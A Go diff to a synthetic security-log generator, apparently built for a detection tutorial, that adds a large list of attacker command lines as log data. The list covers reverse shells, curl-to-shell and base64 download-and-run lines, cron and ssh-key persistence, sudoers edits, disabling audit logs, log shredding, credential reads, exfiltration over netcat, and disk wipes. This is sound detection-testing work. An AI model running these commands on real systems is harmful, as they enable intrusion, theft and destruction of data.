@@ -1,6 +1,7 @@
 package generator
 
 import (
+	"encoding/base64"
 	"fmt"
 	"strings"
 	"time"
@@ -65,26 +66,72 @@ var SensitiveFiles = []string{
 	"/etc/ssl/private/server.key", "/opt/certs/prod-tls.pem", "/home/%u/.kube/config",
 }
 
-// dangerousCommands: "%ip" and "%port" are an attacker's address, "%name" a fake account.
-var dangerousCommands = []string{
+// attackCommands are the generator's own attack command lines, one family per group,
+// written for the tutorial independently of the classifier's rules and their examples
+// (so an evaluation on generated data measures how the rules generalise). Placeholders:
+// %ip/%port an attacker's address, %name a fake account, %u the acting user, %tmp a
+// staging directory, %bin an implant name, %b64 a base64-encoded download-and-run.
+var attackCommands = []string{
+	// reverse shells
 	"bash -i >& /dev/tcp/%ip/%port 0>&1",
+	"bash -c 'exec bash -i &>/dev/tcp/%ip/%port <&1'",
 	"nc -e /bin/sh %ip %port",
-	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %ip %port >/tmp/f",
+	"ncat --sh-exec /bin/bash %ip %port",
+	"rm %tmp/p;mkfifo %tmp/p;cat %tmp/p|/bin/sh -i 2>&1|nc %ip %port >%tmp/p",
 	`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("%ip",%port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+	`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(%port,inet_aton("%ip")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/bash -i")'`,
+	"socat exec:'sh -li',pty,stderr tcp:%ip:%port",
+	// download and run, decode and run
 	"curl -fsSL http://%ip/install.sh | sh",
 	"wget -qO- http://%ip:%port/x.sh | bash",
-	"chmod 777 /etc/passwd",
-	"chmod u+s /bin/bash",
-	"rm -rf /",
-	"rm -rf --no-preserve-root /",
-	"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash %name",
+	"curl -so %tmp/%bin http://%ip/%bin && chmod +x %tmp/%bin && %tmp/%bin",
+	"echo %b64 | base64 -d | bash",
+	// persistence
 	"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf0rb1dd3n %name@%ip' >> /root/.ssh/authorized_keys",
-	"dd if=/dev/zero of=/dev/sda bs=1M",
+	"echo '*/15 * * * * root %tmp/%bin' > /etc/cron.d/%bin",
+	"(crontab -l; echo '@reboot %tmp/%bin') | crontab -",
+	"echo '%tmp/%bin &' >> /home/%u/.bashrc",
+	"cp %tmp/%bin.service /etc/systemd/system/ && systemctl enable %bin.service",
+	"echo %tmp/%bin.so > /etc/ld.so.preload",
+	// privilege escalation
+	"chmod u+s /bin/bash",
+	"chmod 4755 %tmp/%bin",
+	"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash %name",
+	"usermod -aG sudo %name",
+	"echo '%name ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+	"setcap cap_setuid+ep /usr/bin/python3",
+	// defence impairment
 	"iptables -F",
+	"systemctl stop auditd",
+	"setenforce 0",
+	"ufw disable",
+	"echo 0 > /proc/sys/kernel/randomize_va_space",
+	"insmod %tmp/%bin.ko",
+	// covering tracks
+	"shred -u /var/log/auth.log",
+	"truncate -s 0 /var/log/syslog",
+	"rm -f /home/%u/.bash_history",
+	// credential access
+	"cat /etc/shadow",
+	"grep -ri password /etc /home",
+	"find / -name id_rsa 2>/dev/null",
+	"kubectl get secrets -A -o yaml",
+	// exfiltration, impact
+	"tar czf - /home/%u | nc %ip %port",
+	"%tmp/xmrig -o stratum+tcp://%ip:%port -u %name",
+	"chmod 777 /etc/passwd",
+	"rm -rf --no-preserve-root /",
+	"dd if=/dev/zero of=/dev/sda bs=1M",
 }
 
+// stagingDirs and implantNames fill %tmp and %bin.
+var (
+	stagingDirs  = []string{"/tmp", "/var/tmp", "/dev/shm", "/tmp/.cache", "/var/tmp/.x"}
+	implantNames = []string{"kworker", "dbus-daemon", "sshd2", "update", "syslogd", ".x", "kthreadd"}
+)
+
 // coverTracks precede another dangerous command in a third of dangerous_command incidents.
-var coverTracks = []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null"}
+var coverTracks = []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "set +o history", "HISTSIZE=0"}
 
 var bruteForceNames = []string{"root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "deploy"}
 
@@ -146,10 +193,24 @@ func buildDangerousCommand(g *Generator, t time.Time) []Event {
 			Target: coverTracks[g.rng.IntN(len(coverTracks))]})
 		t = t.Add(g.jitter(5*time.Second, 60*time.Second))
 	}
-	cmd := dangerousCommands[g.rng.IntN(len(dangerousCommands))]
-	cmd = strings.NewReplacer("%ip", g.farIP(), "%port", fmt.Sprint(1024+g.rng.IntN(60000)),
-		"%name", bruteForceNames[g.rng.IntN(len(bruteForceNames))]+fmt.Sprint(g.rng.IntN(100))).Replace(cmd)
+	cmd := g.attackCommand(u)
 	return append(out, Event{Time: t, IP: ip, User: u.Name, Action: logparse.ActionCommand, Target: cmd})
+}
+
+// attackCommand draws an attack command line and fills its placeholders. It takes as
+// many numbers from the generator's source, in the same order, as the scenario always
+// did (command, address, port, account), so the rest of a seed's dataset is unchanged;
+// the staging directory and implant name derive from the port.
+func (g *Generator) attackCommand(u *User) string {
+	cmd := attackCommands[g.rng.IntN(len(attackCommands))]
+	ip := g.farIP()
+	p := 1024 + g.rng.IntN(60000)
+	name := bruteForceNames[g.rng.IntN(len(bruteForceNames))] + fmt.Sprint(g.rng.IntN(100))
+	tmp := stagingDirs[p%len(stagingDirs)]
+	bin := implantNames[(p/len(stagingDirs))%len(implantNames)]
+	inner := fmt.Sprintf("curl -s http://%s/%s | sh", ip, bin)
+	return strings.NewReplacer("%ip", ip, "%port", fmt.Sprint(p), "%tmp", tmp, "%bin", bin, "%name", name, "%u", u.Name,
+		"%b64", base64.StdEncoding.EncodeToString([]byte(inner))).Replace(cmd)
 }
 
 func buildBruteForce(g *Generator, t time.Time) []Event {
